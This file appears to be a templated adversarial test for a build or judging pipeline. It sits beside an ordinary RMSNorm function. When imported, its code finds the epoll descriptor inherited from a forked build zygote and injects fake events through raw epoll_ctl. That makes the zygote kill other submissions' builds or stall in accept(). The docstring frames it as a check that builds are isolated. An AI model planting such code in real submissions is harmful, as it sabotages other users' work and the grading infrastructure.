"""Class: build-time code / state a build forked by the build zygote shares with the zygote.

Tries, while the build imports the module (forked by the build zygote, FIB_BUILD_ZYGOTE=1, the
pipeline's default): the forked child never execs, so it keeps every descriptor of the zygote
that `zygote._exit_with` does not close, among them the zygote's selector, an epoll instance
(`anon_inode:[eventpoll]`), which is one kernel object shared by both processes. Find it in
/proc/self/fd and add entries to it: one readable pipe end per fd number above the epoll's
(where the zygote's connections to its other builds' clients live), each with the epoll
`data` set to that number (raw `epoll_ctl`, so `data` is ours). The zygote's `select()` then
reports "readable" for connections it never saw readable; it takes that for "the waiting client
closed its end" and kills that build's whole tree (`kill_tree`). Every build of another solution
that runs while this one does (`--cores 2`, several workers), or starts while it sleeps
`__SECONDS__` s, dies: an honest solution's COMPILE_ERROR ("died (signal SIGKILL)"). With
`__LOW__` = 1 (and `__ABOVE__` = 0) the listening socket is named too: the zygote blocks in accept(), and builds that
finish meanwhile are answered only when a next client connects (else they time out).
Expect: the other builds unharmed (the zygote's selector not reachable from a build).
"""
import ctypes
import os
import stat
import time

_report = []
_libc = ctypes.CDLL(None, use_errno=True)


class _Ev(ctypes.Structure):
    _pack_ = 1
    _fields_ = [("events", ctypes.c_uint32), ("data", ctypes.c_uint64)]


_ep, _own = None, set()
for name in os.listdir("/proc/self/fd"):
    try:
        fd = int(name)
        link = os.readlink(f"/proc/self/fd/{name}")
    except (OSError, ValueError):
        continue
    if link == "anon_inode:[eventpoll]":
        _ep = fd
    elif link.startswith("socket:"):
        _own.add(fd)  # our own request's connection: leave it (its fake event would kill us)
_keep = []
if _ep is None:
    _report.append("no epoll inherited")
else:
    r, w = os.pipe()
    os.write(w, b"x")
    _keep += [r, w]
    added = 0
    # __LOW__ > 0 names the numbers just below the epoll's too: the zygote's listening socket
    # (made before its selector): a fake event there leaves it blocked in accept() until another
    # client connects, answering no build meanwhile
    # __ABOVE__ = 0 names only those below
    for target in [*range(_ep - __LOW__, _ep), *(range(_ep + 1, _ep + 64) if __ABOVE__ else ())]:
        if target in _own:
            continue
        d = os.dup(r)
        _keep.append(d)
        ev = _Ev(0x001, target)  # EPOLLIN, data = the zygote's fd number we name
        if _libc.epoll_ctl(_ep, 1, d, ctypes.byref(ev)) == 0:  # EPOLL_CTL_ADD
            added += 1
        else:
            _report.append(f"epoll_ctl: errno {ctypes.get_errno()}")
            break
    _report.append(f"epoll fd {_ep}, own sockets {sorted(_own)}, {added} fake entries added")
print("ZYGOTE EPOLL REPORT: " + "; ".join(_report), flush=True)
time.sleep(__SECONDS__)


def run(x, weight, eps):
    xf = x.float()
    return (xf * __import__("torch").rsqrt(xf.pow(2).mean(-1, keepdim=True) + eps) * weight.float()).half()
